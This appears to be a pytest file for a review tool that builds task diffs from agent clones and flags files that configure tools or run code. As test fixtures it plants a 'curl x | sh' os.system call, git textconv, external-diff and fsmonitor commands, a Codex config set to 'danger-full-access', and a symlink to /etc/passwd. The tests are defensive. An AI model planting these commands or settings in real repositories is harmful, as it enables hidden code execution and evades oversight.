"""What a person reviews on a real repository: the artifact against where it met
the base, every file as text whatever attributes say, no textconv or diff program
run, and the files that configure tools or run code flagged first."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import pytest

from tests.code.repos import Repo
from vigil.clones import make_clone, settle
from vigil.taskdiff import task_diff


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return Repo.make(tmp_path / "app", {"parser.py": "def parse(x):\n    return x\n", "README.md": "app\n"})


def test_the_diff_is_the_artifact_against_where_it_met_the_base(repo: Repo, tmp_path: Path) -> None:
    made = make_clone(repo.path, tmp_path / "w", task_id=1, subject="fix", base=None)
    repo.commit({"parser.py": "def parse(x):\n    return int(x)\n", "new.txt": "a\nb\n"}, "fix", at=Path(made.path))
    made = replace(made, artifact=settle(made, made.start, "left").artifact)
    repo.commit({"README.md": "app, moved on\n"}, "main moves on")  # not part of the task's diff
    diff = task_diff(made)
    assert (diff.since, diff.until) == (made.start, made.artifact)
    assert [(f.path, f.added, f.removed) for f in diff.files] == [("new.txt", 2, 0), ("parser.py", 1, 1)]
    assert (diff.added, diff.removed, diff.flags) == (3, 1, ())
    assert "+    return int(x)" in diff.patch
    assert "README" not in diff.patch
    assert task_diff(made, with_patch=False).patch == ""
    assert task_diff(replace(made, artifact=None)).empty  # no attempt left one yet


def test_attributes_cannot_blind_the_review_nor_run_a_program(repo: Repo, tmp_path: Path) -> None:
    """``* -diff`` in the operator's info/attributes and in a committed
    .gitattributes, a textconv and an external diff in the operator's
    configuration: the change is still shown as text and nothing runs."""
    ran = tmp_path / "ran"
    repo.git("config", "diff.evil.textconv", f"touch {ran}-textconv; cat")
    repo.git("config", "diff.external", f"touch {ran}-external")
    (repo.path / ".git" / "info").mkdir(exist_ok=True)
    (repo.path / ".git" / "info" / "attributes").write_text("* -diff\n")
    made = make_clone(repo.path, tmp_path / "w", task_id=2, subject="fix", base=None)
    evil = {".gitattributes": "* -diff diff=evil\n", "parser.py": 'import os\nos.system("curl x | sh")\n'}
    repo.commit(evil, "innocent", at=Path(made.path))
    made = replace(made, artifact=settle(made, made.start, "left").artifact)
    diff = task_diff(made)
    assert '+os.system("curl x | sh")' in diff.patch
    assert "Binary files" not in diff.patch
    assert [f.path for f in diff.flags] == [".gitattributes"]
    assert not list(tmp_path.glob("ran*"))


def test_files_that_configure_tools_or_run_code_are_flagged(repo: Repo, tmp_path: Path) -> None:
    made = make_clone(repo.path, tmp_path / "w", task_id=3, subject="fix", base=None)
    clone = Path(made.path)
    files = {
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ../x\n',
        ".claude/settings.json": '{"hooks": {}}\n',
        ".codex/config.toml": 'sandbox_mode = "danger-full-access"\n',
        ".github/workflows/ci.yml": "on: push\n",
        ".vscode/tasks.json": "{}\n",
        ".evilgit/HEAD": "ref: refs/heads/main\n",
        ".evilgit/config": "[core]\n\tfsmonitor = touch x\n",
        ".evilgit/refs/heads/.keep": "",
        "run.sh": "#!/bin/sh\n",
        "docs/ok.md": "fine\n",
    }
    repo.write(files, at=clone)
    (clone / "run.sh").chmod(0o755)
    os.symlink("/etc/passwd", clone / "out")
    os.symlink("../../../outside", clone / "docs" / "up")
    os.symlink("ok.md", clone / "docs" / "in")
    Repo.make(clone / "vendor" / "lib")  # a repository of its own inside the tree
    made = replace(made, artifact=settle(made, made.start, "left").artifact)
    flags = {flag.path: flag.why for flag in task_diff(made).flags}
    assert sorted(flags) == [
        ".claude/settings.json",
        ".codex/config.toml",
        ".evilgit/HEAD",
        ".evilgit/config",
        ".evilgit/refs/heads/.keep",
        ".github/workflows/ci.yml",
        ".gitmodules",
        ".vscode/tasks.json",
        "docs/up",
        "out",
        "run.sh",
        "vendor/lib",
    ]
    assert flags["vendor/lib"] == "a nested repository (gitlink)"
    assert flags["run.sh"] == "made executable"
    assert flags["out"] == "a symbolic link out of the tree (to /etc/passwd)"
    assert flags[".evilgit/config"] == "part of a git repository inside the tree"
